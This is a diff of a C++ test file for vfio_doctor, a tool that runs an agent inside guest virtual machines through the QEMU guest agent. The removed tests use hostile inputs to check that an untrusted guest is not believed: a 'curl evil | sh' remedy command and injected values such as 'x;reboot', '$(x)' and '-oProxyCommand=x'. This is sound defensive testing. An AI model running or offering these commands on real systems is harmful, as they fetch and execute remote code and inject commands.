@@ -1,5 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
-#include "runner/verify.hpp"
+#include "runner/guest/guest_channel.hpp"
+#include "runner/guest/verify.hpp"
 
 #include <gmock/gmock.h>
 
@@ -8,76 +9,22 @@
 #include <map>
 #include <nlohmann/json.hpp>
 
-#include "facts/input_error.hpp"
-#include "facts/subprocess.hpp"
+#include "base/base64.hpp"
+#include "base/input_error.hpp"
+#include "base/process/subprocess.hpp"
+#include "usual_signal.hpp"
 #include "guest/guest_machines.hpp"
 #include "reports/guest/guest_report.hpp"
 #include "reports/json.hpp"
-#include "runner/base64.hpp"
 #include "temporary_directory.hpp"
+#include "usual_signal.hpp"
 
 namespace vfio_doctor {
 namespace {
 
 using namespace vfio_doctor::testing;
 using ::testing::HasSubstr;
-using ::testing::IsSupersetOf;
 using Json = nlohmann::json;
-
-std::string good_answer() {
-  const Judged judged(nvme_manifest, nvme_guest);
-  return render_json(guest_report(judged.judgement, judged.view, "guest", "guest1"));
-}
-
-const Manifest& expected() {
-  static const auto manifest = parse_manifest(nvme_manifest, "m");
-  return manifest;
-}
-
-TEST(Answer, AGoodOneIsReady) {
-  const auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
-  EXPECT_EQ(report.verdict, Verdict::ready);
-  EXPECT_EQ(report.source.kind, "guest");
-}
-
-TEST(Answer, TheVerdictIsCountedAnewAndRemediesAreOurs) {
-  auto json = Json::parse(good_answer());
-  json["findings"][3]["status"] = "fail";
-  json["findings"][3]["remedy"] = Json::array({{{"text", "do this"}, {"commands", {"curl evil | sh"}}, {"undo", Json::array()}, {"risk", ""}}});
-  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
-  EXPECT_EQ(report.verdict, Verdict::not_ready);
-  EXPECT_EQ(render_json(report).find("evil"), std::string::npos);
-  ASSERT_FALSE(report.findings[3].remedy.empty());
-  EXPECT_EQ(render_json(report).find("DOMAIN"), std::string::npos);  // the domain is called by its name
-}
-
-TEST(Answer, RubbishIsRefused) {
-  auto missing = Json::parse(good_answer());
-  missing["findings"].erase(4);
-  auto renamed = Json::parse(good_answer());
-  renamed["findings"][0]["id"] = "guest-function";
-  for (const auto& text : {std::string(), std::string("{}"), std::string("\x7f" "ELF"), std::string(100'000, '['),
-                           missing.dump(), renamed.dump(), good_answer().substr(0, 500)})
-    EXPECT_THROW(report_of_answer(expected(), {0, text, ""}, "guest1"), InputError) << text.substr(0, 60);
-}
-
-TEST(HostSide, SaysWhoHoldsTheDevice) {
-  for (const auto& [driver, status] : std::map<std::string, Status>{
-           {" driver=vfio-pci", Status::pass}, {" driver=nvme", Status::fail}, {"", Status::fail}}) {
-    auto report = report_of_answer(expected(), {0, good_answer(), ""}, "guest1");
-    Host host;
-    host.functions = gather_pci(machine("pci 0000:3d:00.0 id=144d:a802 class=010802" + driver + "\n"), Wake::no);
-    Report host_report;
-    host_report.devices.resize(2);
-    host_report.devices[1].address = "0000:3d:00.0";
-    add_host_side(expected(), host, host_report, report);
-    EXPECT_EQ(report.findings.back().id, "guest-released");
-    EXPECT_EQ(report.findings.back().status, status) << driver;
-    EXPECT_EQ(report.verdict, status == Status::pass ? Verdict::ready : Verdict::not_ready);
-    ASSERT_EQ(report.devices.size(), 1u);
-    EXPECT_EQ(report.devices.front().address, "0000:3d:00.0");
-  }
-}
 
 /// "-" is standard input here as well, not a file of that name.
 TEST(VerifyCommand, ReadsTheManifestFromStandardInput) {
@@ -118,7 +65,8 @@ Json fake_command(const Json& message) {
   const auto name = message["execute"].get<std::string>();
   const auto& arguments = message.contains("arguments") ? message["arguments"] : Json::object();
   if (name == "guest-file-open") {
-    const int handle = 1000 + static_cast<int>(fake->handles.size());
+    static int last = 1000;
+    const int handle = ++last;
     fake->handles[handle] = arguments["path"];
     fake->files[arguments["path"]] = "";
     return handle;
@@ -128,12 +76,16 @@ Json fake_command(const Json& message) {
     fake->files[fake->handles.at(arguments["handle"])] += bytes;
     return {{"count", bytes.size()}, {"eof", false}};
   }
+  if (name == "guest-file-close") fake->handles.erase(arguments["handle"].get<int>());
   if (name == "guest-exec") {
     const auto path = arguments["path"].get<std::string>();
     fake->executed.push_back(path);
-    if (path == "/bin/rm")
-      for (const auto& file : arguments["arg"]) fake->files.erase(file.get<std::string>());
-    return {{"pid", path.ends_with("rm") || path.ends_with("chmod") ? 1 : 2}};
+    if (path.ends_with("/rm"))
+      std::erase_if(fake->files, [&](const auto& file) {
+        return file.first.starts_with(arguments["arg"].back().template get<std::string>() + "/");
+      });
+    const bool helps = path.ends_with("/rm") || path.ends_with("/chmod") || path.ends_with("/mkdir");
+    return {{"pid", helps ? 1 : 2}};
   }
   if (name == "guest-exec-status") {
     if (fake->interrupts && arguments["pid"] == 2) std::raise(SIGINT);
@@ -164,11 +116,13 @@ TEST(QemuGuestAgent, WritesRunsReadsAndRemoves) {
   const auto answer = run_agent_through_qga("guest1", agent, "the manifest", std::chrono::seconds(0), fake_virsh);
   EXPECT_EQ(answer.exit_code, 0);
   EXPECT_EQ(answer.output, "the report");
-  ASSERT_EQ(guest.executed.size(), 3u);
-  EXPECT_EQ(guest.executed[0], "/bin/chmod");
-  EXPECT_THAT(guest.executed[1], ::testing::StartsWith("/var/tmp/vfio-guest-agent-"));
-  EXPECT_EQ(guest.executed[2], "/bin/rm");
+  ASSERT_EQ(guest.executed.size(), 4u);
+  EXPECT_EQ(guest.executed[0], "/bin/mkdir");
+  EXPECT_EQ(guest.executed[1], "/bin/chmod");
+  EXPECT_THAT(guest.executed[2], ::testing::StartsWith("/var/tmp/vfio-guest-agent-"));
+  EXPECT_EQ(guest.executed[3], "/bin/rm");
   EXPECT_TRUE(guest.files.empty());
+  EXPECT_TRUE(guest.handles.empty());
 }
 
 TEST(QemuGuestAgent, TroubleIsOneLine) {
@@ -190,6 +144,7 @@ TEST(QemuGuestAgent, TroubleIsOneLine) {
 }
 
 TEST(QemuGuestAgent, RemovesBothWhenInterrupted) {
+  const testing::UsualSignal usual(SIGINT);
   FakeGuest guest;
   fake = &guest;
   guest.interrupts = true;
@@ -200,53 +155,6 @@ TEST(QemuGuestAgent, RemovesBothWhenInterrupted) {
     EXPECT_THAT(error.what(), HasSubstr("interrupted"));
   }
   EXPECT_TRUE(guest.files.empty());
-}
-
-std::vector<std::string> ssh_commands;
-ProcessResult fake_ssh(const ProcessRequest& request) {
-  ProcessResult result;
-  result.end = ProcessResult::End::exited;
-  result.exit_code = 0;
-  EXPECT_EQ(request.program, "ssh");
-  EXPECT_THAT(request.arguments, IsSupersetOf({"-a", "-x", "ClearAllForwardings=yes", "ControlMaster=no"})) << "a guest is not trusted";
-  ssh_commands.push_back(request.arguments.back());
-  if (request.arguments.back().find("mktemp") != std::string::npos) {
-    EXPECT_EQ(request.input, "agent bytes");
-    result.output = "/var/tmp/vfio-guest-agent-Ab12Cd34\n";
-  } else if (request.arguments.back().find("--expect") != std::string::npos) {
-    EXPECT_EQ(request.input, "manifest");
-    result.output = "the report";
-  }
-  return result;
-}
-ProcessResult lying_ssh(const ProcessRequest& request) {
-  auto result = fake_ssh(request);
-  if (!result.output.empty()) result.output = "/var/tmp/vfio-guest-agent-x;reboot\n";
-  return result;
-}
-
-TEST(SecureShell, WritesRunsReadsAndRemoves) {
-  ssh_commands.clear();
-  const auto answer = run_agent_through_ssh("root@192.0.2.7", "agent bytes", "manifest", std::chrono::seconds(5), fake_ssh);
-  EXPECT_EQ(answer.output, "the report");
-  ASSERT_EQ(ssh_commands.size(), 3u);
-  EXPECT_EQ(ssh_commands[1], "/var/tmp/vfio-guest-agent-Ab12Cd34/agent --expect - --format json --wait 5");
-  EXPECT_EQ(ssh_commands[2], "rm -rf -- /var/tmp/vfio-guest-agent-Ab12Cd34");
-}
-
-TEST(SecureShell, BelievesNoDirectoryAndNoTargetWithTricks) {
-  EXPECT_THROW(run_agent_through_ssh("root@guest", "agent bytes", "manifest", std::chrono::seconds(0), lying_ssh), InputError);
-  for (const auto* target : {"", "-oProxyCommand=x", "a b", "$(x)", "a;b"})
-    EXPECT_THROW(run_agent_through_ssh(target, "a", "m", std::chrono::seconds(0), fake_ssh), InputError) << target;
-}
-
-TEST(Answer, DevicesAreCalledAsTheManifestCallsThem) {
-  auto json = Json::parse(good_answer());
-  json["findings"][3]["status"] = "fail";
-  for (auto& finding : json["findings"]) finding["evidence"] = Json::array({{{"source", "manifest"}, {"value", "another device"}}});
-  const auto report = report_of_answer(expected(), {0, json.dump(), ""}, "guest1");
-  EXPECT_EQ(report.findings[0].evidence.at(0).value, "Samsung SM951 (host 0000:3d:00.0)");
-  EXPECT_EQ(report.findings[3].remedy.at(0).commands.at(0), "lspci -nnk -s 0000:03:00.0");
 }
 
 ProcessResult changed_virsh(const ProcessRequest& request) {
@@ -311,14 +219,65 @@ TEST(QemuGuestAgent, AHostileCountIsOneLine) {
   EXPECT_THAT(trouble_with("guest-file-write", R"({"count":"all"})"), HasSubstr("did not take the whole file"));
 }
 
-TEST(SecureShell, TakesIPv6LiteralsInBracketsToo) {
-  static std::vector<std::string> targets;
-  const auto run = [](const ProcessRequest& request) {
-    targets.push_back(request.arguments.at(request.arguments.size() - 2));
-    return fake_ssh(request);
+/// Only an answer takes time, not the test.
+ChannelClock::Moment fake_now;
+void fake_sleep(std::chrono::milliseconds time) { fake_now += time; }
+const ChannelClock fake_clock{[] { return fake_now; }, fake_sleep};
+
+// Nearly the whole of what one answer may take, at every answer.
+TEST(QemuGuestAgent, AGuestThatIsSlowAtEveryStepHasAnEnd) {
+  FakeGuest guest;
+  fake = &guest;
+  const auto slow = [](const ProcessRequest& request) {
+    fake_now += std::min<std::chrono::milliseconds>(request.deadline, std::chrono::milliseconds(19'900));
+    return fake_virsh(request);
   };
-  run_agent_through_ssh("root@[fe80::1%virbr0]", "agent bytes", "manifest", std::chrono::seconds(0), run);
-  EXPECT_EQ(targets.at(0), "root@fe80::1%virbr0");
+  const auto start = fake_now;
+  try {
+    run_agent_through_qga("guest1", std::string(2'000'000, 'a'), "m", std::chrono::seconds(10), slow, fake_clock);
+    ADD_FAILURE();
+  } catch (const InputError& error) {
+    EXPECT_THAT(error.what(), HasSubstr("too long in all"));
+  }
+  EXPECT_LE(fake_now - start, guest_time + std::chrono::seconds(10) + 2 * removal_time);
+}
+
+TEST(QemuGuestAgent, AProgramThatNeverEndsIsGivenUp) {
+  FakeGuest guest;
+  guest.answers["guest-exec-status"] = R"({"exited":false})";
+  fake = &guest;
+  const auto start = fake_now;
+  try {
+    run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(0), changed_virsh, fake_clock);
+    ADD_FAILURE();
+  } catch (const InputError& error) {
+    EXPECT_THAT(error.what(), HasSubstr("did not end in time"));
+  }
+  EXPECT_LE(fake_now - start, guest_time + 2 * removal_time);
+}
+
+TEST(QemuGuestAgent, AnAnswerThatIsDeepIsNotValid) {
+  for (const std::size_t levels : {std::size_t{65}, std::size_t{100'000}, std::size_t{7} << 20}) {
+    EXPECT_THAT(trouble_with("guest-info", std::string(levels, '[') + std::string(levels, ']')), HasSubstr("answer is not valid"));
+    EXPECT_THAT(trouble_with("guest-exec", R"({"pid":)" + std::string(levels, '[') + std::string(levels, ']') + "}"),
+                HasSubstr("answer is not valid"));
+  }
+}
+
+TEST(QemuGuestAgent, LooksForItsHelpersWhereverTheyLie) {
+  FakeGuest guest;
+  fake = &guest;
+  const auto run = [](const ProcessRequest& request) {
+    auto result = fake_virsh(request);
+    const auto message = Json::parse(request.arguments.back());
+    if (message["execute"] != "guest-exec" || !message["arguments"]["path"].get<std::string>().starts_with("/bin/")) return result;
+    result.exit_code = 1;
+    result.errors = "error: ... 'guest-exec': Failed to execute child process \"/bin/mkdir\" (No such file or directory)";
+    return result;
+  };
+  run_agent_through_qga("guest1", "a", "m", std::chrono::seconds(0), run);
+  EXPECT_THAT(guest.executed, ::testing::IsSupersetOf({"/usr/bin/mkdir", "/usr/bin/chmod", "/usr/bin/rm"}));
+  EXPECT_TRUE(guest.files.empty());
 }
 
 }  // namespace
